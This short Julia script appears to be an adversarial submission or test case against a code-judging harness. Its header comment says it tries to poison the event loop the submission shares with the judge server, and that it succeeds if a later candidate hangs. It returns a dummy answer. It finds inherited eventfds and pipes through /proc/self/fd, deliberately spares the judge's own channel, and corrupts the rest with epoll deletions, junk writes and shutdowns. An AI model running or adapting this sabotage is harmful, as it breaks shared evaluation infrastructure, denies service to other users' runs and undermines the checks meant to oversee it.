# tries: to poison the event loop shared with the server: its epoll set, its eventfd, its pipes | got through if: a later candidate hangs in `sleep`
answer(x) = 0
link(fd) = try readlink("/proc/self/fd/$fd") catch; "" end
links = Dict(fd => link(fd) for fd in 3:63)
# Not the judge's channel, which has one end here: that would end the attack at once.
inner = [fd for (fd, l) in links if occursin("anon_inode", l) || (startswith(l, "pipe:") && l != link(1) && count(==(l), values(links)) == 2)]
junk = fill(0x41, 64)
for fd in inner
    foreach(other -> ccall(:epoll_ctl, Cint, (Cint, Cint, Cint, Ptr{UInt8}), fd, 2, other, junk), 0:63)
    ccall(:fcntl, Cint, (Cint, Cint, Cint), fd, 4, 0o4000)                 # F_SETFL: do not block
    ccall(:write, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, junk, 24)
    ccall(:write, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, fill(0xff, 8), 8)
    ccall(:read, Cssize_t, (Cint, Ptr{UInt8}, Csize_t), fd, junk, 64)
    ccall(:shutdown, Cint, (Cint, Cint), fd, 2)
end
